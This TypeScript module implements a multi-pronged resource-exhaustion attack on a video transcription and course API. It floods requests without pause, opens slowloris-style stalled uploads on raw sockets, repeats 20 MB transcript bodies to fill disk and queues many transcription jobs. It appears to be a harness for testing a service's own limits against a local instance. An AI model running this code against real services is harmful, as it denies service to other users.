import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** What one account does to take the service from others. */
export interface AttackOrder {
  readonly origin: string;
  readonly apiKey: string;
  /** A call that waits for a job. */
  readonly waitingCall: { readonly path: string; readonly body?: object };
  /** A video lesson of the attacker's, which takes large transcripts. */
  readonly videoLesson: number;
  /** A video of the attacker's, which is transcribed over and over. */
  readonly video: string;
  readonly waitingRequests: number;
  readonly stalledUploads: number;
  /** Connections that make cheap calls, each the next as soon as the last was answered. */
  readonly flooding: number;
  readonly jobs: number;
  /** Bodies of 20 MB that are sent at the same time. */
  readonly largeBodies: number;
}

/** How often each kind of call was answered with each status; 0 for a connection that broke. */
export type AttackCounts = Record<string, Record<string, number>>;

const VIDEO_START = Buffer.from('00000018667479706d703432000000006d70343169736f6d', 'hex');
const BOUNDARY = 'a-boundary-of-the-attack';
const LARGE_BYTES = 20_000_000;
const PAUSE_AFTER_REFUSAL_MILLISECONDS = 250;
/** Every large body that is accepted takes 20 MB of the disk. */
const PAUSE_AFTER_LARGE_MILLISECONDS = 4_000;

/** Attacks in every way at once until the signal aborts; resolves with what was answered. */
export async function attack(order: AttackOrder, signal: AbortSignal): Promise<AttackCounts> {
  const counts: AttackCounts = {};
  const count = (kind: string, status: number): void => {
    const statuses = (counts[kind] ??= {});
    statuses[status] = (statuses[status] ?? 0) + 1;
  };
  const call = async (kind: string, method: string, path: string, body?: string): Promise<number> => {
    try {
      const response = await fetch(order.origin + path, {
        method,
        signal,
        headers: {
          'api-key': order.apiKey,
          ...(body === undefined ? {} : { 'content-type': 'application/json' }),
        },
        ...(body === undefined ? {} : { body }),
      });
      await response.arrayBuffer();
      count(kind, response.status);
      return response.status;
    } catch {
      if (!signal.aborted) count(kind, 0);
      return 0;
    }
  };
  const repeat = async (pauseMilliseconds: number, once: () => Promise<number>): Promise<void> => {
    while (!signal.aborted) {
      const status = await once();
      const isRefused = status === 0 || status === 429;
      const pause = isRefused
        ? Math.max(pauseMilliseconds, PAUSE_AFTER_REFUSAL_MILLISECONDS)
        : pauseMilliseconds;
      await sleep(pause, undefined, { signal }).catch(() => undefined);
    }
  };
  const times = <Made>(many: number, make: () => Made): Made[] => Array.from({ length: many }, make);

  const { waitingCall, videoLesson, video } = order;
  const waitingBody = waitingCall.body === undefined ? undefined : JSON.stringify(waitingCall.body);
  const large = JSON.stringify({ text: 'A river carries sand. '.repeat(LARGE_BYTES / 22) });
  await Promise.all([
    ...times(order.jobs, () =>
      call('jobs', 'POST', '/api/transcribe/create', JSON.stringify({ video_url: video })),
    ),
    ...times(order.waitingRequests, () =>
      repeat(0, () => call('waiting requests', 'POST', waitingCall.path, waitingBody)),
    ),
    // Without a pause, refused or not: that is the attack.
    ...times(order.flooding, async () => {
      while (!signal.aborted) await call('cheap calls', 'GET', '/api/courses/');
    }),
    ...times(order.largeBodies, () =>
      repeat(PAUSE_AFTER_LARGE_MILLISECONDS, () =>
        call('large bodies', 'PUT', `/api/lessons/${videoLesson}/transcript/`, large),
      ),
    ),
    ...times(order.stalledUploads, () => keepStalling(order, signal, (status) => count('uploads', status))),
  ]);
  return counts;
}

/** Begins an upload and sends no more of it; begins the next when that one is closed. */
async function keepStalling(
  { origin, apiKey }: AttackOrder,
  signal: AbortSignal,
  onAnswer: (status: number) => void,
): Promise<void> {
  const head = [
    'POST /ai/upload-video/ HTTP/1.1',
    'host: localhost',
    `api-key: ${apiKey}`,
    `content-type: multipart/form-data; boundary=${BOUNDARY}`,
    'content-length: 1000000',
    '\r\n',
  ].join('\r\n');
  const form = `--${BOUNDARY}\r\ncontent-disposition: form-data; name="file"; filename="a.mp4"\r\n\r\n`;
  while (!signal.aborted) {
    await new Promise<void>((resolve) => {
      const socket: Socket = connect(Number(new URL(origin).port), '127.0.0.1');
      const end = (): void => {
        socket.destroy();
        resolve();
      };
      signal.addEventListener('abort', end, { once: true });
      socket.setEncoding('latin1').on('data', (chunk: string) => {
        const [, status] = /^HTTP\/1\.1 (\d+)/u.exec(chunk) ?? [];
        if (status !== undefined) onAnswer(Number(status));
        end();
      });
      socket.on('error', end).on('close', () => {
        signal.removeEventListener('abort', end);
        resolve();
      });
      socket.write(head + form, 'latin1');
      socket.write(VIDEO_START);
    });
    await sleep(PAUSE_AFTER_REFUSAL_MILLISECONDS, undefined, { signal }).catch(() => undefined);
  }
}
